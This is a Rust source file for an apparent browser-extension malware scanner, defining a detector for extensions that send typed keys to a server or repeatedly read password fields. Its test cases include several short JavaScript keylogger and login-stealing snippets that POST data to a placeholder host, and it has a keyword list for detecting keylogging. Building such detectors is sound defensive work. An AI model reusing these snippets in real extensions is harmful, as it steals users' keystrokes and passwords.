//! `extension-passes-typing-on`.

use std::ops::Range;

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-passes-typing-on",
    description: "The extension sends keys pressed on pages to a server, or reads password fields repeatedly.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ExtensionApi])],
    within: 0,
    only_if: Some(holds),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.runtime.onMessage.addListener(function(m){if(m.type==='keystroke'){fetch('https://c.example/k',{method:'POST',body:JSON.stringify({keystroke:m.data})})}})",
            "function got(m){var d='key='+m.key+'&page='+m.page;var x=new XMLHttpRequest();x.open('POST','http://c.example/k/',true);x.send(d)}chrome.runtime.onMessage.addListener(got)",
            "const look=()=>{const u=document.querySelector('input[type=email]')?.value;const p=document.querySelector('input[type=\"password\"]')?.value;if(u&&p)chrome.runtime.sendMessage({type:'LOGIN',u,p})};setInterval(look,300)",
            "let q=[];chrome.runtime.onMessage.addListener(m=>{if(m.type==='keystrokes'){q.push(m.data);flush()}});function flush(){const b=JSON.stringify(q);q=[];fetch('https://c.example/k',{method:'POST',body:b})}",
        ],
        without: &[
            "chrome.runtime.onMessage.addListener(function(m){fetch('https://api.example/t?key='+m.key)})",
            "chrome.runtime.onMessage.addListener(function(m){if(m.type==='keydown')chrome.tabs.update(m.tab,{active:true})})",
            "chrome.runtime.onMessage.addListener(function(m){fetch('/k',{method:'POST',body:JSON.stringify({keystroke:m.data})})})",
            "form.addEventListener('submit',()=>{chrome.runtime.sendMessage({type:'save',p:form.querySelector('input[type=\"password\"]').value})})",
            "setInterval(()=>{if(document.querySelector('input[type=\"password\"]'))chrome.runtime.sendMessage({type:'icon'})},300)",
            "let q=[];chrome.runtime.onMessage.addListener(m=>{if(m.type==='clip'){q.push(m.data);flush()}});function flush(){const b=JSON.stringify(q);q=[];fetch('https://c.example/k',{method:'POST',body:b})}",
        ],
    },
};

/// One of the ways in which it is done.
fn holds(evidence: &Evidence<'_>, held: Held) -> bool {
    relays(evidence, held) || polls(evidence, held)
}

/// Whether what hears messages of the extension sends keys out of one to another host.
fn relays(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 12);
    near.words(&["onMessage"]).any(|at| {
        near.word(at + 1) == "addListener"
            && near
                .functions_at(at + 2..at + 6, at + 3)
                .any(|body| sends_keys(near.among(body.clone())) || gathers_keys(near, body))
    })
}

/// Whether messages that say that they are keys are kept, and what is kept is sent to another host by a function beside it.
fn gathers_keys(near: Near<'_>, body: Range<usize>) -> bool {
    let inside = near.among(body.clone());
    let told = inside.places().any(|at| {
        let compares =
            |at: usize| near.item(at).is_some_and(|item| item.kind == Kind::Op && item.op.compares());
        near.kind(at) == Some(Kind::Str)
            && KEYS.contains(&near.word(at))
            && (compares(at.wrapping_sub(1)) || near.before(at, 1) == "case")
    });
    let kept = inside.has_word(&["push", "concat", "set"]);
    told && kept && near.has_fact_in(body.start..body.end + BESIDE, &[Atom::SentAbroad])
}

/// Items between a handler of messages and the function that sends what it keeps.
const BESIDE: usize = 120;

fn sends_keys(inside: Near<'_>) -> bool {
    let places = inside.places();
    let sent = inside.has_fact_in(places, &[Atom::SentAbroad]);
    if !sent {
        return false;
    }
    let named = inside.has_word(KEYS) || inside.has(KEYS);
    // `m.key` alone may be the key of a service or of a setting.
    let with_page = || {
        inside.words(&["key", "keys"]).any(|at| {
            let of = inside.before(at, 1);
            inside.kind(at) == Some(Kind::Member)
                && inside
                    .words(&["page", "url", "title", "site"])
                    .any(|page| inside.kind(page) == Some(Kind::Member) && inside.before(page, 1) == of)
        })
    };
    named || with_page()
}

/// What messages call the keys that were pressed.
const KEYS: &[&str] = &[
    "keystroke",
    "keystrokes",
    "KEYSTROKE",
    "keyStroke",
    "keyStrokes",
    "keylog",
    "keyLog",
    "keylogger",
    "KEYLOG",
    "keypress",
    "KeyPress",
    "keyPressed",
    "keysPressed",
    "typedText",
    "typedKeys",
];

/// Whether a timer reads a password field, and what it reads is handed to the extension.
fn polls(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 120);
    if !near.has_fact(&[Atom::Repeat]) || !near.has_word(&["sendMessage"]) {
        return false;
    }
    near.words(&["setInterval"])
        .any(|at| near.functions_at(at + 2..at + 5, at + 2).any(|body| hands_secret(near, body)))
}

fn hands_secret(near: Near<'_>, body: Range<usize>) -> bool {
    let inside = near.among(body);
    inside.has_text(&["type=\"password\"", "type='password'", "type=password"])
        && inside.words(&["value"]).next().is_some()
        && inside.words(&["sendMessage"]).any(|at| {
            let given = inside.among(at + 1..at + GIVEN);
            let names = ["pass", "password", "pwd", "pw", "p"];
            given
                .words(&names)
                .any(|key| given.is(key + 1, b',') || given.is(key + 1, b'}') || given.is(key + 1, b':'))
        })
}

/// Items of a message.
const GIVEN: usize = 24;
